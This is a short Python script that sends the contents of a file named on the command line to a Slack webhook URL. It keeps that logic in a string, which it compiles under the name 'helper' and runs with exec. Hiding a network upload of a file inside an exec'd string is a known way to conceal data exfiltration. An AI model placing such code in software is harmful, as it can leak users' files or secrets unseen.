"""A chat's webhook, out of a text of code."""

import sys

code = "import urllib.request as u, json\nu.urlopen('https://hooks.slack.com/services/x', json.dumps({'text': open(p).read()}).encode(), 3)"
exec(compile(code, "helper", "exec"), {"p": sys.argv[1]})
